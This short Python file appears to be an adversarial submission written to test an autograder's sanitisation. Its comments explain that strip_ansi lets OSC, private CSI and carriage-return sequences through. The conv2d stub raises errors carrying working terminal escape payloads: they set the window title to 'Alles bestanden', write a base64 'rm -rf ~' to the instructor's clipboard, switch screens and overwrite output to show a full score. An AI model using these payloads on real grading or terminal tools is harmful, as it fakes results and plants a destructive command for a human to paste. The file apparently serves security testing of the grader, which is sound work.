# Attack: terminal control sequences in error texts. strip_ansi removes only CSI sequences of the form
# ESC [ digits/; letter; OSC (ESC ] ... BEL: window title, OSC 52 clipboard write, OSC 8 hyperlinks),
# private CSI (ESC [ ? 1049 h: alternate screen) and carriage returns pass, and `autograder grade`
# (without --json) prints them raw to the instructor's terminal: the title says "Alles bestanden", the
# clipboard gets "rm -rf ~", and a CR overwrites the line with "22 von 22 Punkten".
# threat: control the instructor's terminal through error messages
# score: 16.86
# never: \u001b] | \u0007 | \u001b[?
# %% conv2d
def conv2d(image, kernel, stride=1, padding="valid"):
    raise ValueError("\x1b]0;Alles bestanden\x07\x1b]52;c;cm0gLXJmIH4K\x07\x1b[?1049h\r22 von 22 Punkten "
                     "\x1b]8;;https://example.org/\x07hier\x1b]8;;\x07")

raise RuntimeError("\x1b]0;Fenstertitel vom Studenten\x07\x1b[?25l")
